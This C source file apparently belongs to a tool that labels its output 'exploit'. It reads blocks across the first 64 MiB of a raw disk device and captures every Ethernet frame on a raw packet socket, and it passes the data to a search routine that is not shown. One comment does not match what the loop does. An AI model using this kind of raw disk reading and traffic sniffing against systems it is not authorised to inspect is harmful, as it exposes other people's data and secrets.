/* SPDX-License-Identifier: BSD-3-Clause */
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/fs.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>
#include "reach.h"

#define STRIDE	    0x10000u
#define BEHIND	    (64ull << 20) /* bytes that are tried behind the end of the disk */
#define FRAME_BYTES 2048u

static char block[REACH_BLOCK] __attribute__((aligned(REACH_BLOCK)));
static char frame[FRAME_BYTES + 8] __attribute__((aligned(8)));

bool reach_disk(const char *disk)
{
	unsigned int good = 0, refused = 0;
	uint64_t size = 0;
	int fd = open(disk, O_RDONLY | O_DIRECT);

	if (fd < 0 || ioctl(fd, BLKGETSIZE64, &size) != 0)
		return false;
	if (size > BEHIND)
		size = BEHIND;
	for (uint64_t at = 0; at + REACH_BLOCK <= size; at += STRIDE) {
		if (pread(fd, block, sizeof(block), (off_t)at) != (ssize_t)sizeof(block)) {
			refused++;
			continue;
		}
		good++;
		reach_search(block, sizeof(block), "disk");
	}
	close(fd);
	printf("exploit: %s: %u places read, %u refused\n", disk, good, refused);
	return true;
}

bool reach_frames(unsigned int seconds)
{
	int s = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	const struct timeval pause = {.tv_usec = 100000};
	time_t end = time(NULL) + (time_t)seconds;

	if (s < 0 || setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &pause, sizeof(pause)) != 0)
		return false;
	while (time(NULL) < end) {
		ssize_t length = recv(s, frame, FRAME_BYTES, 0);

		if (length > 0)
			reach_search(frame, (unsigned int)length, "frames");
	}
	close(s);
	return true;
}
